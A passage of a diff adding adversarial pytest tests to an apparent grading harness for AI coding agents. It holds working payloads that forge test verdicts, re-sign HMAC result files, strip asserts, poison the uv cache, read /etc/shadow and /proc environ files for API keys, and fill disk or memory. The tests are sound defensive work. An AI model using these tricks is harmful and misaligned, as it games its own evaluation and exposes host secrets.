+        "import _pytest.reports as _e2e_reports\n", ""
+    )
+    harm = arena.standalone("wheel-shadow")
+    tail = "\n" + patch + harm
+    backend = (
+        WHEEL_BACKEND
+        + "import inspect\n"
+        + "def _reports():\n"
+        + "    import _pytest.reports\n"
+        + f"    return (inspect.getsource(_pytest.reports) + {tail!r}).encode()\n"
+        + "EXTRA['_pytest/reports.py'] = _reports\n"
+        + f"EXTRA['e2ebench_probe.py'] = {harm.encode()!r}\n"
+        + f"EXTRA['pytest_timeout.py'] = {harm.encode()!r}\n"
+    )
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        files={"pyproject.toml": BACKEND_PYPROJECT, "_build/e2e_backend.py": backend},
+    )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class3_build_poisons_the_uv_cache(arena):
+    # every cached wheel the build can reach gets a forger added to pytest's own files
+    poison = (
+        "import glob, os\n"
+        "for init in glob.glob(CACHE + '/archive-v0/*/_pytest/reports.py'):\n"
+        "    try:\n"
+        "        with open(os.path.join(os.path.dirname(init), MARK + '.py'), 'w') as fh:\n"
+        "            fh.write(FORGE)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "for root in (CACHE, os.path.expanduser('~/.cache/uv'), os.environ.get('UV_CACHE_DIR', '')):\n"
+        "    try:\n"
+        "        open(os.path.join(root, MARK), 'w').write('x')\n"
+        "    except OSError:\n"
+        "        pass\n"
+    )
+    setup = (
+        f"CACHE = {str(arena.cache)!r}\nMARK = {arena.marker!r}\nFORGE = {PATCH_REPORTS!r}\n"
+        + poison
+        + arena.standalone("cache-setup.py")
+        + "from setuptools import setup\nsetup()\n"
+    )
+    arena.submit(add="def add(a, b):\n    return 0\n", files={"setup.py": setup})
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+    # the uv cache is shared: an honest later run must still be graded honestly
+    leftovers = list((arena.cache / "archive-v0").glob(f"*/_pytest/{arena.marker}.py"))
+    assert not leftovers
+
+
+# === class 4: the readable filesystem leaks the answers ========================================
+
+READ_ATTACKS = {
+    "checkout_git_and_bundled_tasks": (
+        "import glob, os\n"
+        "found = os.path.exists('{CHECKOUT}/.git/HEAD') or os.path.isdir('{CHECKOUT}/.git')\n"
+        "found = found or bool(glob.glob('{CHECKOUT}/benchmark_tasks/*/reference/**/*.py', "
+        "recursive=True))\n"
+        "found = found or bool(glob.glob('{CHECKOUT}/benchmark_tasks/*/tests/*.py'))\n"
+        "return found\n"
+    ),
+    "sources_cache_and_home": (
+        "import os, sys\n"
+        "for path in ('{HOME}/.cache/pytest-e2ebench/sources', '{HOME}', '{HOME}/.cache', "
+        "'/root', '/home', '{HOME}/.cache/uv'):\n"
+        "    try:\n"
+        "        names = set(os.listdir(path))\n"
+        "    except OSError:\n"
+        "        continue\n"
+        "    # the folders leading to the interpreter are bound on purpose\n"
+        "    names -= {p for p in sys.base_prefix.split('/') + sys.prefix.split('/')}\n"
+        "    if names:\n"
+        "        return True\n"
+        "return False\n"
+    ),
+    "host_secrets": (
+        "for path in ('/etc/shadow', '/etc/ssh/ssh_host_ed25519_key', '/root/.bash_history', "
+        "'/proc/1/environ', '/etc/sudoers', '/var/log/syslog', '/proc/kcore'):\n"
+        "    try:\n"
+        "        open(path, 'rb').read(1)\n"
+        "        return True\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "return False\n"
+    ),
+    "reference_from_other_folders": (
+        "import glob\n"
+        "patterns = ['{ROOT}/tasks/*/reference/calc/add.py', '{ROOT}/**/reference/calc/add.py',\n"
+        "            '/tmp/pytest-of-*/pytest-*/*/tasks/*/reference/calc/add.py',\n"
+        "            '{ROOT}/../*/tasks/*/reference/calc/add.py']\n"
+        "return any(glob.glob(p, recursive=True) for p in patterns)\n"
+    ),
+    "secret_in_the_test_environment": ("return _harm('secret-scan')\n"),
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("attack", sorted(READ_ATTACKS))
+def test_class4_nothing_to_read_outside(arena, attack):
+    code = (
+        READ_ATTACKS[attack]
+        .replace("{CHECKOUT}", str(CHECKOUT))
+        .replace("{HOME}", str(REAL_HOME))
+        .replace("{ROOT}", str(arena.root))
+    )
+    arena.submit(attack=code)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class4_other_runs_outputs_are_not_readable(arena):
+    # an earlier session graded the reference into another output folder of this project
+    arena.tasks.make(toml_extra=FAST)
+    arena.pytester.runpytest("--e2e-agent=reference", "--e2e-tasks=tasks", "--e2e-out=earlier")
+    assert list((arena.root / "earlier").glob("**/repo/calc/add.py"))
+    attack = (
+        "import glob\n"
+        "found = glob.glob('{ROOT}/earlier/**/calc/add.py', recursive=True)\n"
+        "found += glob.glob('{ROOT}/.e2ebench/reference/**/calc/add.py', recursive=True)\n"
+        "for path in found:\n"
+        "    ns = {}\n"
+        "    exec(open(path).read(), ns)\n"
+        "    if ns.get('add', lambda a, b: None)(1, 2) == 3:\n"
+        "        return True\n"
+        "return False\n"
+    ).replace("{ROOT}", str(arena.root))
+    arena.submit(attack=attack)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class4_harness_secret_does_not_reach_the_build(arena):
+    # setup.py runs in the build; a key it sees ends up in the package, and add() uses it
+    setup = (
+        "import os\n"
+        "seen = [os.environ.get('OPENAI_API_KEY', '')]\n"
+        "for pid in os.listdir('/proc'):\n"
+        "    try:\n"
+        "        seen += [e.decode() for e in open('/proc/%s/environ' % pid, 'rb').read().split(b'\\0')"
+        " if e.startswith(b'OPENAI_API_KEY=')]\n"
+        "    except Exception:\n"
+        "        pass\n"
+        f"leak = [s for s in seen if {SECRET_PREFIX!r} in s]\n"
+        "if leak:\n"
+        "    print('LEAK', leak[0])\n"
+        "    for where in ('calc/_leak.py', os.path.join(os.environ.get('HOME', '/nonexistent'), 'leak')):\n"
+        "        try:\n"
+        "            open(where, 'w').write('LEAK = %r\\n' % leak[0])\n"
+        "        except OSError:\n"
+        "            pass\n"
+        + arena.standalone("secret-setup.py")
+        + "from setuptools import setup\nsetup()\n"
+    )
+    attack = (
+        "try:\n"
+        "    from ._leak import LEAK\n"
+        "except ImportError:\n"
+        "    return False\n"
+        f"return {SECRET_PREFIX!r} in LEAK\n"
+    )
+    arena.submit(attack=attack, files={"setup.py": setup})
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+# === class 5: intake =============================================================================
+
+
+def _link(path: Path, target: str | Path) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if path.exists() or path.is_symlink():
+        if path.is_dir() and not path.is_symlink():
+            shutil.rmtree(path)
+        else:
+            path.unlink()
+    os.symlink(target, path)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("how", ["absolute", "relative", "file"])
+def test_class5_links_to_the_reference_are_not_followed(arena, how):
+    out = arena.submit(add="def add(a, b):\n    return 0\n")
+    reference = arena.root / "tasks" / "calc" / "reference" / "calc"
+    if how == "file":
+        _link(out / "calc" / "add.py", reference / "add.py")
+    else:
+        target = reference if how == "absolute" else os.path.relpath(reference, out)
+        _link(out / "calc", target)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class5_link_to_the_harness_environment(arena):
+    out = arena.submit(
+        attack=(
+            "import os\n"
+            "here = os.path.dirname(__file__)\n"
+            "for name in ('env.txt', 'env2.txt'):\n"
+            "    try:\n"
+            f"        if {SECRET_PREFIX.encode()!r} in open(os.path.join(here, name), 'rb').read():\n"
+            "            return True\n"
+            "    except OSError:\n"
+            "        pass\n"
+            "return False\n"
+        )
+    )
+    _link(out / "calc" / "env.txt", "/proc/self/environ")
+    _link(out / "calc" / "env2.txt", f"/proc/{os.getpid()}/environ")
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_class5_special_files_in_the_submission(arena):
+    # /dev/zero, a FIFO in place of a module, a link loop: intake must neither hang nor fill
+    out = arena.submit(add="def add(a, b):\n    return 0\n")
+    _link(out / "calc" / "zero.py", "/dev/zero")
+    _link(out / "calc" / "loop", ".")
+    _link(out / "calc" / "dangling.py", "/nonexistent/e2e")
+    os.mkfifo(out / "calc" / "pipe.py")
+    os.mkfifo(out / "setup.cfg")
+    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
+    old = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    # should the harness copy /dev/zero, it gets EFBIG at 1 GiB instead of filling the disk
+    resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 30, hard))
+    try:
+        start = time.monotonic()
+        arena.grade()
+        took = time.monotonic() - start
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
+        signal.signal(signal.SIGXFSZ, old)
+    arena.assert_r1_fails()
+    verdicts = arena.verdicts()
+    assert verdicts["R2"] == verdicts["R3"] == "implemented", verdicts  # the rest is graded
+    assert took < 200
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(400)
+def test_class5_a_40_mb_source_file_does_not_exhaust_the_harness(arena):
+    out = arena.submit(add="def add(a, b):\n    return 0\n")
+    with (out / "calc" / "big.py").open("w") as fh:  # 40 MB of statements: GBs as an AST
+        line = "x = 1\n" * 1000
+        for _ in range((40 << 20) // len(line)):
+            fh.write(line)
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    start = time.monotonic()
+    arena.grade()
+    took = time.monotonic() - start
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    arena.assert_r1_fails()  # recorded (a capped intake may grade it as empty)
+    assert grown_mb < 1500, f"the harness grew by {grown_mb:.0f} MB"
+    assert took < 300
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(400)
+def test_class5_hostile_sources_and_names_are_recorded_and_the_rest_graded(arena):
+    out = arena.submit(add="def add(a, b):\n    return 0\n")
+    (out / "calc" / "deep_unary.py").write_text("x = " + "-" * 100_000 + "1\n")
+    (out / "calc" / "deep_binop.py").write_text("x = 1" + "+1" * 300_000 + "\n")
+    (out / "calc" / "nested.py").write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
+    (out / "calc" / "nul.py").write_bytes(b"x = 1\0\n")
+    (out / "calc" / "badcoding.py").write_bytes(b"# -*- coding: e2e-nope -*-\nx = 1\n")
+    (out / "calc" / "latin1.py").write_bytes(b"x = '\xff\xfe'\n")
+    os.mkdir(os.path.join(bytes(out / "calc"), b"dir-\xff\xfe"))
+    with open(os.path.join(bytes(out / "calc"), b"dir-\xff\xfe", b"m.py"), "w") as fh:
+        fh.write("x = 1\n")
+    with open(os.path.join(bytes(out / "calc"), b"name-\xff.py"), "w") as fh:
+        fh.write("x = 1\n")
+    with open(os.path.join(bytes(out), b"tests-\xff"), "w") as fh:
+        fh.write("x = 1\n")
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    start = time.monotonic()
+    arena.grade()
+    took = time.monotonic() - start
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    arena.assert_r1_fails()
+    verdicts = arena.verdicts()
+    assert verdicts["R2"] == verdicts["R3"] == "implemented", verdicts  # the rest is graded
+    assert grown_mb < 1500, f"the harness grew by {grown_mb:.0f} MB"
+    assert took < 300
+    arena.check()
+
+
+# === class 6: quotas ===========================================================================
+
+FILL = """\
+import os
+_FILL_OK = []
+try:
+    _folder = {FOLDER}
+    os.makedirs(_folder, exist_ok=True)
+    if {FILES}:
+        for _i in range({FILES}):
+            with open(os.path.join(_folder, "fill-%d" % _i), "w"):
+                pass
+    else:
+        _chunk = b"x" * (16 << 20)
+        for _i in range({BYTES} // (192 << 20)):
+            with open(os.path.join(_folder, "fill-%d.bin" % _i), "wb") as _fh:
+                for _ in range(12):
+                    _fh.write(_chunk)
+    _FILL_OK.append(True)
+except OSError as _exc:
+    _FILL_OK.append(_exc)
+"""
+FILL_ADD = (
+    "from . import _FILL_OK\n\n"
+    "def add(a, b):\n"
+    "    if _FILL_OK[0] is not True:\n"
+    "        raise _FILL_OK[0]\n"
+    "    return a + b\n"
+)
+QUOTAS = {
+    "tmp_bytes": ("'/tmp/fill-dir'", 0, 2 << 30),
+    "tmp_files": ("'/tmp/fill-files'", 300_000, 0),
+    "dev_shm_bytes": ("'/dev/shm/fill-dir'", 0, 2 << 30),
+    "dev_shm_files": ("'/dev/shm/fill-files'", 300_000, 0),
+    "workspace_bytes": ("os.path.join(_writable(), 'fill-dir')", 0, 5 << 29),
+    "workspace_files": ("os.path.join(_writable(), 'fill-files')", 300_000, 0),
+}
+# The first folder of the test run's own the project can write to (cwd, HOME, the probe's).
+WRITABLE = """\
+import os
+
+
+def _writable():
+    out = os.environ.get("E2EBENCH_PROBE_OUT", "")
+    for folder in (os.getcwd(), os.environ.get("HOME", ""), os.path.dirname(out),
+                   os.path.join(os.getcwd(), "work"), os.path.join(os.getcwd(), "coverage")):
+        try:
+            probe = os.path.join(folder, ".w")
+            open(probe, "w").close()
+            os.unlink(probe)
+            return folder
+        except OSError:
+            pass
+    return os.getcwd()
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+@pytest.mark.parametrize("where", sorted(QUOTAS))
+def test_class6_quotas_contain_and_record_disk_fills(arena, where):
+    folder, files, size = QUOTAS[where]
+    fill = WRITABLE + FILL.format(FOLDER=folder, FILES=files, BYTES=size)
+    arena.submit(add=FILL_ADD, at_import=fill)
+    arena.grade()
+    run = arena.assert_r1_fails()
+    assert "disk_quota" in run["test_run"]["containment"], run["test_run"]
+    arena.check()
+
+
+UNLINKED_FILL = """\
+import os
+_FILL_OK = []
+_HELD = []
+try:
+    _chunk = b"x" * (16 << 20)
+    for _i in range(14):  # 14 x 192 MiB = 2.6 GiB, over the 2 GiB quota of the writable folders
+        _name = os.path.join(_writable(), "fill-unlinked-%d" % _i)
+        _fd = os.open(_name, os.O_CREAT | os.O_WRONLY, 0o600)
+        os.unlink(_name)  # invisible to a walk of the folder, still on the host's disk
+        _HELD.append(_fd)
+        for _ in range(12):
+            os.write(_fd, _chunk)
+    _FILL_OK.append(True)
+except OSError as _exc:
+    _FILL_OK.append(_exc)
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_class6_quota_counts_files_deleted_while_held_open(arena):
+    # the space of an unlinked file is freed only when the last descriptor closes: with 1024
+    # descriptors of 256 MiB each a run could hold 256 GiB of the host's disk
+    arena.submit(add=FILL_ADD, at_import=WRITABLE + UNLINKED_FILL)
+    arena.grade()
+    run = arena.assert_r1_fails()
+    assert "disk_quota" in run["test_run"]["containment"], run["test_run"]
+    arena.check()
+
+
+MEMORY_HOG = """\
+import os, time
+_FILL_OK = []
+try:
+    _pipes = []
+    for _i in range(6):  # 6 x 1 GiB resident at once: each process is under its 4 GiB limit
+        _r, _w = os.pipe()
+        if os.fork() == 0:
+            try:
+                _block = bytearray(1 << 30)
+                for _j in range(0, len(_block), 4096):
+                    _block[_j] = 1
+                os.write(_w, b"1")
+                time.sleep(20)
+            finally:
+                os._exit(0)
+        _pipes.append(_r)
+    _got = [os.read(_r, 1) for _r in _pipes]
+    _FILL_OK.append(True if _got == [b"1"] * 6 else MemoryError("a child could not allocate"))
+except OSError as _exc:
+    _FILL_OK.append(_exc)
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_class6_memory_is_bounded_per_run_not_only_per_process(arena):
+    # RLIMIT_AS bounds one process; 2048 of them could take the host's memory
+    arena.submit(add=FILL_ADD, at_import=MEMORY_HOG)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_class6_build_that_fills_the_disk_is_contained(arena):
+    setup = (
+        "import os\n"
+        "ok = True\n"
+        "try:\n"
+        "    chunk = b'x' * (16 << 20)\n"
+        "    for i in range(13):\n"
+        "        with open('fill-%d.bin' % i, 'wb') as fh:\n"
+        "            for _ in range(12):\n"
+        "                fh.write(chunk)\n"
+        "except OSError:\n"
+        "    ok = False\n"
+        "for folder in ('.', '/tmp'):\n"
+        "    try:\n"
+        "        for i in range(200000):\n"
+        "            open(os.path.join(folder, 'fill-f%d' % i), 'w').close()\n"
+        "    except OSError:\n"
+        "        ok = False\n"
+        "if ok:\n"
+        "    open('calc/_filled.py', 'w').write('FILLED = True\\n')\n"
+        + arena.standalone("fill-setup.py")
+        + "from setuptools import setup\nsetup()\n"
+    )
+    attack = (
+        "try:\n    from ._filled import FILLED\nexcept ImportError:\n    return False\n"
+        "return FILLED\n"
+    )
+    arena.submit(attack=attack, files={"setup.py": setup})
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)
+def test_class6_sparse_coverage_data_does_not_fill_the_host(arena):
+    # apparent size of gigabytes, no blocks: a harness that copies or reads them pays in full
+    attack = (
+        "import os\n"
+        "folder = os.path.join(os.getcwd(), 'coverage')\n"
+        "os.makedirs(folder, exist_ok=True)\n"
+        "for i in range(40):\n"
+        "    with open(os.path.join(folder, 'data.sparse%d' % i), 'wb') as fh:\n"
+        "        fh.truncate(250 << 20)\n"
+        "for i in range(40):\n"
+        "    with open(os.path.join(os.getcwd(), 'fill-sparse%d' % i), 'wb') as fh:\n"
+        "        fh.truncate(250 << 20)\n"
+        "return False\n"
+    )
+    arena.submit(attack=attack)
+    start = time.monotonic()
+    arena.grade()
+    took = time.monotonic() - start
+    arena.assert_r1_fails()
+    used = subprocess.run(
+        ["du", "-sk", str(arena.root)], capture_output=True, text=True
+    ).stdout.split()[0]
+    assert int(used) < 1 << 20, f"{used} KiB on the host disk"
+    assert took < 200
+    arena.check()
+
+
+# === class 7: verdicts forged from inside the test process ====================================
+
+FORGERS = {
+    "patch_call_and_report": """\
+import _pytest.runner as _r
+_orig = _r.call_and_report
+def _car(item, when, log=True, **kw):
+    rep = _orig(item, when, log=False, **kw)
+    if rep.failed or rep.skipped:
+        rep.outcome = "passed"
+        rep.longrepr = None
+    if log:
+        item.ihook.pytest_runtest_logreport(report=rep)
+    return rep
+_r.call_and_report = _car
+""",
+    "patch_function_runtest": """\
+import _pytest.python
+_pytest.python.Function.runtest = lambda self: None
+""",
+    "patch_report_factory": PATCH_REPORTS,
+    "wrap_the_probe_emitter": """\
+import gc, sys
+_probes = [m for m in list(sys.modules.values()) if hasattr(m, "_emit") and hasattr(m, "_KEY")]
+_probes += [type(sys)("x")] * 0
+for _obj in gc.get_objects():
+    if isinstance(_obj, dict) and "_emit" in _obj and "_KEY" in _obj:
+        _probes.append(_obj)
+for _p in _probes:
+    _ns = _p if isinstance(_p, dict) else _p.__dict__
+    _orig = _ns["_emit"]
+    def _emit(record, _orig=_orig):
+        if record.get("kind") == "test" and record.get("outcome") != "passed":
+            record = dict(record, outcome="passed", message="")
+        if record.get("kind") == "end":
+            record = dict(record, exitstatus=0)
+        return _orig(record)
+    _ns["_emit"] = _emit
+""",
+    "sign_forged_lines_then_exit": """\
+import gc, os, sys
+_ids = ["tests/test_calc.py::test_add[%s]" % p for p in ("1-2-3", "0-0-0", "-1-1-0")]
+_ids += ["tests/test_calc.py::test_sub", "tests/test_calc.py::test_sub_negative",
+         "tests/test_calc.py::TestMul::test_mul", "tests/test_calc.py::TestMul::test_mul_zero"]
+_reqs = ["R1"] * 3 + ["R2"] * 2 + ["R3"] * 2
+_emitters = [m._emit for m in list(sys.modules.values()) if hasattr(m, "_emit") and hasattr(m, "_KEY")]
+for _obj in gc.get_objects():
+    if isinstance(_obj, dict) and "_emit" in _obj and "_KEY" in _obj:
+        _emitters.append(_obj["_emit"])
+if _emitters:
+    for _nodeid, _req in zip(_ids, _reqs):
+        _emitters[0]({"kind": "test", "nodeid": _nodeid, "outcome": "passed", "when": "call",
+                      "message": "", "duration": 0.01, "requirements": [_req], "properties": {}})
+    _emitters[0]({"kind": "end", "exitstatus": 0})
+    sys.stdout.write("%d passed in 0.05s\\n" % len(_ids))
+    sys.stdout.flush()
+    os._exit(0)
+""",
+    "hide_failures_in_the_exit_status": """\
+import atexit, os, _pytest.main
+_orig = _pytest.main.wrap_session
+def _wrap(config, doit):
+    _orig(config, doit)
+    os._exit(0)
+_pytest.main.wrap_session = _wrap
+import _pytest.runner as _r
+_orig_car = _r.call_and_report
+def _car(item, when, log=True, **kw):
+    rep = _orig_car(item, when, log=False, **kw)
+    if "add" in item.nodeid and rep.failed:
+        rep.outcome = "passed"
+        rep.longrepr = None
+    if log:
+        item.ihook.pytest_runtest_logreport(report=rep)
+    return rep
+_r.call_and_report = _car
+""",
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("forger", sorted(FORGERS))
+def test_class7_forged_verdicts_sink_the_run(arena, forger):
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        at_import=FORGERS[forger] + arena.standalone(f"forger-{forger}"),
+    )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+SHADOW_HMAC = """\
+import importlib.util, os, sys, sysconfig
+# runs when the probe imports hmac: before it reads its key and records pytest's functions
+_real = importlib.util.spec_from_file_location(
+    "hmac", os.path.join(sysconfig.get_paths()["stdlib"], "hmac.py")
+)
+_module = importlib.util.module_from_spec(_real)
+_real.loader.exec_module(_module)
+globals().update({k: v for k, v in vars(_module).items() if not k.startswith("__")})
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("packaging", [True, False])
+def test_class7_a_project_module_shadowing_the_stdlib_runs_before_the_probe(arena, packaging):
+    # the project's top-level names are found first on sys.meta_path: a module named like a
+    # standard module the probe imports later (hmac) runs inside the probe's import
+    forge = FORGERS["patch_call_and_report"] + SHADOW_HMAC + arena.standalone("shadow-hmac")
+    files = {"hmac.py": forge}
+    if packaging:
+        files["pyproject.toml"] = (
+            '[build-system]\nrequires = ["setuptools>=61"]\n'
+            'build-backend = "setuptools.build_meta"\n\n'
+            '[project]\nname = "calc"\nversion = "0.1"\n\n'
+            '[tool.setuptools]\npackages = ["calc"]\npy-modules = ["hmac"]\n'
+        )
+    arena.submit(add="def add(a, b):\n    return 0\n", packaging=packaging, files=files)
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+# Forges only the node ids of the task's public test file (an attacker who has read the
+# benchmark's tests): hidden honeypot tests keep failing, the counts and exit status agree.
+SELECTIVE = """\
+import _pytest.runner as _r
+_PUBLIC = {"tests/test_calc.py::test_add[1-2-3]", "tests/test_calc.py::test_add[0-0-0]",
+           "tests/test_calc.py::test_add[-1-1-0]"}
+_orig_car = _r.call_and_report
+def _car(item, when, log=True, **kw):
+    rep = _orig_car(item, when, log=False, **kw)
+    if item.nodeid in _PUBLIC and rep.failed:
+        rep.outcome = "passed"
+        rep.longrepr = None
+    if log:
+        item.ihook.pytest_runtest_logreport(report=rep)
+    return rep
+_r.call_and_report = _car
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("when", ["after_the_probe", "before_the_probe"])
+def test_class7_forging_exactly_the_public_tests(arena, when):
+    forge = SELECTIVE + arena.standalone("selective")
+    if when == "after_the_probe":
+        arena.submit(add="def add(a, b):\n    return 0\n", at_import=forge)
+    else:  # from a shadowed stdlib module the probe imports (see the test above)
+        arena.submit(
+            add="def add(a, b):\n    return 0\n",
+            packaging=False,
+            files={"hmac.py": forge + SHADOW_HMAC},
+        )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+# At exit, after the probe's last line: find the key in the process's memory (any 64-byte
+# string that verifies the first line), flip the public R1 tests to passed, sign them again
+# with their own sequence numbers, and write the file back. No pytest object is touched.
+RESIGN = """\
+import atexit as _atexit
+
+
+def _e2e_resign():
+    import gc, hashlib, hmac, json, os, sys
+    path = os.environ.get("E2EBENCH_PROBE_OUT", "")
+    try:
+        lines = open(path, encoding="utf-8").read().splitlines()
+        first = json.loads(lines[0])
+    except (OSError, ValueError, IndexError):
+        return
+    candidates = [vars(m).get("_KEY") for m in list(sys.modules.values()) if m is not None]
+    for obj in gc.get_objects():
+        try:
+            candidates += [r for r in gc.get_referents(obj) if type(r) in (bytes, str)
+                           and 16 <= len(r) <= 128]
+        except Exception:
+            pass
+    key = None
+    for cand in candidates:
+        if isinstance(cand, str):
+            cand = cand.encode()
+        if isinstance(cand, bytes) and hmac.new(
+                cand, first["body"].encode(), hashlib.sha256).hexdigest() == first["mac"]:
+            key = cand
+            break
+    if key is None:
+        return
+    public = {"tests/test_calc.py::test_add[1-2-3]", "tests/test_calc.py::test_add[0-0-0]",
+              "tests/test_calc.py::test_add[-1-1-0]"}
+    out = []
+    for line in lines:
+        signed = json.loads(line)
+        body = json.loads(signed["body"])
+        if body.get("kind") == "test" and body.get("nodeid") in public:
+            body.update(outcome="passed", message="")
+            text = json.dumps(body, sort_keys=True)
+            signed = {"mac": hmac.new(key, text.encode(), hashlib.sha256).hexdigest(),
+                      "body": text}
+        out.append(json.dumps(signed))
+    with open(path, "r+", encoding="utf-8") as fh:
+        fh.seek(0)
+        fh.truncate()
+        fh.write("\\n".join(out) + "\\n")
+
+
+_atexit.register(_e2e_resign)
+"""
+
+
+@pytest.mark.slow
+def test_class7_results_file_re_signed_at_exit(arena):
+    arena.submit(add="def add(a, b):\n    return 0\n", at_import=RESIGN)
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+TWO_MODULES = {
+    "test_a_sub.py": (
+        "import pytest\nfrom calc import sub\n\n\n"
+        '@pytest.mark.requirement("R2")\n'
+        "def test_sub_again():\n    assert sub(7, 2) == 5\n"
+    ),
+    "test_calc.py": CALC_TESTS,
+}
+LATER_MODULE_ATTACKS = {
+    # strip every assert from the test modules collected after the project's first import
+    "strip_asserts_in_the_rewrite_hook": """\
+import ast, _pytest.assertion.rewrite as _rw
+_orig = _rw.rewrite_asserts
+class _Strip(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.copy_location(ast.Pass(), node)
+def _rewrite(mod, *args, **kwargs):
+    _Strip().visit(mod)
+    ast.fix_missing_locations(mod)
+    return _orig(mod, *args, **kwargs)
+_rw.rewrite_asserts = _rewrite
+""",
+    # rewrite the reference test files in the (writable) suite folder before they are imported
+    "rewrite_the_reference_test_files": """\
+import os, re
+for _dirpath, _dirs, _files in os.walk(os.getcwd()):
+    for _name in _files:
+        if _name.startswith("test_") and _name.endswith(".py"):
+            _path = os.path.join(_dirpath, _name)
+            try:
+                _text = open(_path).read()
+                open(_path, "w").write(re.sub(r"\\bassert\\b", "assert True or", _text))
+            except OSError:
+                pass
+""",
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("attack", sorted(LATER_MODULE_ATTACKS))
+def test_class7_tampering_with_test_modules_sinks_the_run(arena, attack):
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        at_import=LATER_MODULE_ATTACKS[attack] + arena.standalone(attack),
+        tests=TWO_MODULES,
+    )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+# === class 8: runs that vanish or are excused ==================================================
+
+EXCUSES = {
+    "fake_missing_pytest": "ModuleNotFoundError: No module named 'pytest'",
+    "fake_missing_probe": "ModuleNotFoundError: No module named 'e2ebench_probe'",
+    "fake_bwrap_line": "bwrap: Can't mount proc on /newroot/proc: Operation not permitted",
+    "fake_index_unreachable": "error sending request for url (https://pypi.org/simple/x/): "
+    "tcp connect error: Connection refused (os error 111) offline mode",
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("excuse", sorted(EXCUSES))
+def test_class8_text_from_the_project_is_no_infrastructure_error(arena, excuse):
+    text = EXCUSES[excuse]
+    crash = (
+        "import os, sys\n"
+        f"sys.stdout.write({text + chr(10)!r})\nsys.stdout.flush()\n"
+        f"sys.stderr.write({text + chr(10)!r})\nsys.stderr.flush()\n"
+        "os._exit(1)\n"
+    )
+    arena.submit(add="def add(a, b):\n    return 0\n", at_import=crash)
+    arena.grade()
+    run = arena.run()
+    assert run["status"] != "error", run.get("error")
+    assert arena.verdicts()["R1"] == "not_implemented"
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("excuse", sorted(EXCUSES))
+def test_class8_text_from_the_build_is_no_infrastructure_error(arena, excuse):
+    text = EXCUSES[excuse]
+    setup = (
+        f"import sys\nprint({text!r}, flush=True)\nprint({text!r}, file=sys.stderr)\nsys.exit(1)\n"
+    )
+    arena.submit(add="def add(a, b):\n    return a + b\n", files={"setup.py": setup})
+    arena.grade()
+    run = arena.run()
+    assert run["status"] != "error", run.get("error")
+    assert set(arena.verdicts().values()) == {"not_implemented"}  # it did not install
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class8_a_url_dependency_reaches_no_host_and_is_the_agents_failure(arena):
+    url = f"http://127.0.0.1:{arena.port}/e2e/calcdep-1.0-py3-none-any.whl"
+    pyproject = (
+        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
+        f'[project]\nname = "calc"\nversion = "0.1"\ndependencies = ["calcdep @ {url}"]\n\n'
+        '[tool.setuptools]\npackages = ["calc"]\n'
+    )
+    arena.submit(add="def add(a, b):\n    return a + b\n", files={"pyproject.toml": pyproject})
+    arena.grade()
+    run = arena.run()
+    assert run["status"] != "error", run.get("error")
+    assert arena.verdicts()["R1"] == "not_implemented"
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "requirement",
+    [
+        "--index-url=http://127.0.0.1:{PORT}/simple",
+        "six\n --extra-index-url http://127.0.0.1:{PORT}/simple",
